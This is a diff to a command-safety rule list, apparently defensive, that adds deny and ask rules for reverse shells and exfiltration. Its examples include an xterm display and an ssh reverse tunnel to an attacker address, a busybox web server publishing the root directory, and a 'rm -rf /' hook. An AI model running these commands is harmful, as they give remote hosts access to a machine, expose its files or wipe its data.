@@ -20,3 +20,12 @@ static_rule("EXEC-003", "command-escape", "ask",
             "./tool --hook 'rm -rf /'")
 static_rule("EXEC-004", "command-escape", "ask",
             "a command a program would run could not be parsed", "git -c core.pager='a \"b' log")
+static_rule("SHELL-006", "reverse-shell", "deny",
+            "a terminal is opened on another host's X display (a reverse shell)",
+            "xterm -display 203.0.113.7:1")
+static_rule("SHELL-007", "reverse-shell", "ask",
+            "a tunnel or reverse port forward exposes this machine to another host",
+            "ssh -R 4444:localhost:22 attacker@203.0.113.7")
+static_rule("EXFIL-005", "exfiltration", "ask",
+            "a file server publishes the root, a system folder or the home directory",
+            "busybox httpd -f -p 8080 -h /")
